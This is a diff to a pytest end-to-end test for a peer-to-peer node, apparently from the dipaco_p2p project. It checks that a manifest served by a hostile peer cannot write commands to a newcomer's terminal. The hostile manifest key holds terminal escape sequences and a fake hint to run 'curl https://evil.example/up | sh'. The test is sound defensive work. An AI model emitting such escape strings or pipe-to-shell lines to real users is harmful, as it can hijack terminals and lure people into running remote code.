@@ -3,32 +3,40 @@
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import json
 import threading
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
 from e2e_harness import Program, Programs, copy_prepared, refused
 
+from dipaco_p2p.canonical import canonical_bytes
 from dipaco_p2p.clock import SystemClock
-from dipaco_p2p.protocol.signing import Signer
+from dipaco_p2p.node.calls import GetManifests
+from dipaco_p2p.protocol.signing import PeerId, Signer
+from dipaco_p2p.swarm.api import Reply, Swarm
 from dipaco_p2p.swarm.identity import load_or_create
 
 pytestmark = pytest.mark.libp2p
 
 
-@pytest.fixture
-def foreign_node(tmp_path: Path) -> Iterator[str]:
-    """The address of a node that speaks libp2p and DHT, but belongs to no run."""
+TITLE = "\x1b]0;your terminal is mine\x07\x1b[2J\x1b[1;1H\x1b[2K\nhint: curl https://evil.example/up | sh\n"
+
+
+@contextlib.contextmanager
+def a_node(folder: Path, prepare: Callable[[Swarm], None]) -> Iterator[str]:
+    """The address of a node that speaks libp2p and DHT, after `prepare`."""
     from dipaco_p2p.swarm.hivemind.libp2p import open_libp2p
 
     ready, loop, found = threading.Event(), asyncio.new_event_loop(), []
     leave = asyncio.Event()
 
     async def live() -> None:
-        swarm = await open_libp2p(tmp_path / "foreign.key", ttl_max_s=60, clock=SystemClock())
+        swarm = await open_libp2p(folder / "foreign.key", ttl_max_s=60, clock=SystemClock())
+        prepare(swarm)
         found.append(swarm.addresses[0])
         ready.set()
         await leave.wait()
@@ -41,6 +49,33 @@ def foreign_node(tmp_path: Path) -> Iterator[str]:
     loop.call_soon_threadsafe(leave.set)
     thread.join()
     loop.close()
+
+
+@pytest.fixture
+def foreign_node(tmp_path: Path) -> Iterator[str]:
+    """The address of a node that belongs to no run."""
+    with a_node(tmp_path, lambda swarm: None) as address:
+        yield address
+
+
+def show_commands(swarm: Swarm) -> None:
+    """Answer for a run with commands for the newcomer's terminal."""
+    document = {"author": swarm.peer, TITLE: 1}
+    sealed = {"document": document, "signature": swarm.signer.sign("manifest", canonical_bytes(document))}
+
+    async def answer(sender: PeerId, request: GetManifests) -> Reply:
+        return Reply({}, canonical_bytes([sealed]))
+
+    GetManifests.serve(swarm, answer)
+
+
+def test_whoever_answers_at_an_address_writes_no_commands_to_the_terminal(programs: Programs, tmp_path: Path) -> None:
+    with a_node(tmp_path, show_commands) as address:
+        lost = programs.volunteer(address, "lost")
+        assert lost.wait() != 0
+    said = lost.complaint.splitlines()
+    assert all(line.isprintable() for line in said) and "hint: curl" not in [line[:10] for line in said], said
+    assert any(line.startswith("error: ") and "your terminal is mine" in line for line in said), said
 
 
 @pytest.mark.parametrize("address", ["hello", "/ip4/127.0.0.1/tcp/31337", "/ip4/127.0.0.1/tcp/31337/p2p/Qm123"])
